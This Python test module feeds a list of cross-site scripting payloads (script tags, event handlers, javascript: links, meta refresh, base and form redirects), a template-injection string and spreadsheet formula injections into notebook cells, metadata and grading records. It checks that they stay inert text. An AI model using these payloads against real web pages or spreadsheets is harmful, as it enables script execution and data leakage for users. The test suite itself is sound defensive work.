"""HTML, script and templates in every text a learner can write. `PWN` may be read, and never be anything but text."""

from __future__ import annotations

from tests.hostile.kit import Kit, case

SCRIPTS = [
    "<script>PWN()</script>",
    "<img src=x onerror=PWN()>",
    "<svg/onload=PWN()>",
    "<iframe srcdoc='<script>PWN()</script>'></iframe>",
    "</div></td></body><script>PWN()</script>",
    "[click](javascript:PWN())",
    "<a href='javascript:PWN()'>click</a>",
    '![x](x" onerror="PWN())',
    "<style>body{background:url(https://example.org/PWN)}</style>",
    "<meta http-equiv=refresh content='0;url=https://example.org/PWN'>",
    "<form action=https://example.org/PWN><input name=a></form>",
    "<!-- PWN --><object data=PWN></object><embed src=PWN>",
    "<math><mtext></mtext><script>PWN()</script></math>",
    "```html\n<script>PWN()</script>\n```",
    "$\\href{javascript:PWN()}{x}$",
    "$$\\unicode{<script>PWN()</script>}$$",
    "{{ cell.__class__ }}{% for x in PWN %}{% endfor %}",
    "&lt;script&gt;PWN()&lt;/script&gt;",
    "<SCRIPT\n>PWN()</SCRIPT\n>",
    "\u2028<script>PWN()</script>",
    "<scr\0ipt>PWN()</scr\0ipt>",
    "<p style='position:fixed' onclick=PWN()>x</p>",
    "<link rel=stylesheet href=https://example.org/PWN>",
    "<base href=https://example.org/PWN>",
]
EVERYTHING = "\n\n".join(SCRIPTS)


@case("markup")
def script_in_an_added_cell(kit: Kit) -> None:
    for text in SCRIPTS:
        kit.add_text(text)
    kit.save_both()


@case("markup")
def script_in_a_raw_cell(kit: Kit) -> None:
    kit.add_text(EVERYTHING, kind="raw")
    kit.notebook["cells"][3]["metadata"] = {"raw_mimetype": "text/html", "format": "text/html"}
    kit.save_both()


@case("markup")
def script_in_a_code_cell_and_its_outputs(kit: Kit) -> None:
    kit.add_code(
        f"%%html\n{EVERYTHING}",
        outputs=[
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"text/html": EVERYTHING, "application/javascript": "PWN()"},
            }
        ],
    )
    kit.save_both()


@case("markup")
def script_in_the_writing(kit: Kit) -> None:
    for stage in kit.records["roles-reflection"]["answer"]:
        if stage != "model":
            kit.records["roles-reflection"]["answer"][stage] = EVERYTHING
    kit.save_both()


@case("markup")
def each_script_alone_in_the_writing(kit: Kit) -> None:
    answer = kit.records["roles-reflection"]["answer"]
    stages = [stage for stage in answer if stage != "model"]
    for number, stage in enumerate(stages):
        answer[stage] = SCRIPTS[number] + "\n" + SCRIPTS[-1 - number]
    kit.save_both()


@case("markup")
def script_in_the_cell_to_read(kit: Kit) -> None:
    kit.find("roles-reflection-read")["source"] = EVERYTHING
    kit.save_both()


@case("markup", says="altered")
def script_in_the_tutors_cells(kit: Kit) -> None:
    for cell in kit.notebook["cells"]:
        if cell["id"] != "roles-reflection-read":
            cell["source"] = EVERYTHING
    kit.save_both()


@case("markup")
def script_in_metadata_and_attachments(kit: Kit) -> None:
    kit.notebook["metadata"] |= {"title": EVERYTHING, "authors": [{"name": EVERYTHING}], "celltoolbar": EVERYTHING}
    for cell in kit.notebook["cells"]:
        cell["metadata"] |= {"tags": [EVERYTHING], "name": EVERYTHING}
        cell["attachments"] = {"x": {"text/html": EVERYTHING}}
    kit.notebook["metadata"]["kernelspec"] = {"name": EVERYTHING, "display_name": EVERYTHING, "language": EVERYTHING}
    kit.save_both()


@case("markup", says="not known")
def script_in_a_grade_id(kit: Kit) -> None:
    kit.graded()[0]["metadata"]["nbgrader"]["grade_id"] = EVERYTHING
    kit.graded()[1]["id"] = EVERYTHING
    kit.save_both()


@case("markup", says="two answers")
def script_in_a_confidence(kit: Kit) -> None:
    kit.save()
    kit.records["roles-ines-team"] |= {"confidence": EVERYTHING}
    kit.save_answers()


@case("markup")
def script_in_a_note(kit: Kit) -> None:
    for record in kit.records.values():
        record["note"] = EVERYTHING
    kit.save_both()


@case("markup", mark="less")
def script_in_place_of_ids(kit: Kit) -> None:
    kit.records["roles-ines-team"]["answer"] = {EVERYTHING: EVERYTHING, "rt-w11": EVERYTHING}
    kit.records["roles-ines-plan"]["answer"] = {"chosen": [EVERYTHING]}
    kit.save_both()


@case("markup", says="is not the id of an activity")
def script_in_an_activitys_id(kit: Kit) -> None:
    kit.records["<script>PWN()</script>"] = kit.records["roles-ines-team"]
    kit.save_both()


@case("markup")
def formulas_in_the_writing(kit: Kit) -> None:
    answer = kit.records["roles-reflection"]["answer"]
    for stage in [stage for stage in answer if stage != "model"]:
        answer[stage] = '=HYPERLINK("https://example.org/"&A1,"PWN")\n+1+1\n-2\n@SUM(A1)\n\t=1'
    kit.save_both()
